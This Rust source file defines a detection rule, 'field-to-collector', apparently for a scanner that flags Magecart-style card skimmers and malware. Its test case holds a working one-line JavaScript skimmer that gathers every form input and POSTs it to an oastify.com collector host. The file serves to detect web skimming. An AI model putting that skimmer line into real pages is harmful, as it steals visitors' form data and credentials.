//! `field-to-collector`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "field-to-collector",
    description: "The script sends form fields to a service that shows strangers what it receives.",
    severity: Severity::High,
    classes: ClassSet::MAGECART.union(ClassSet::MALWARE),
    needs: &[one(&[Atom::FieldToDropBox]), one(&[Atom::Collector])],
    within: 1500,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "var d={};f.querySelectorAll('input').forEach(i=>{d[i.name]=i.value});x.open('POST','http://a.oastify.com');x.send(JSON.stringify(d))",
        ],
        without: &["fetch('https://formspree.io/f/abc',{method:'POST',body:new FormData(form)})"],
    },
};
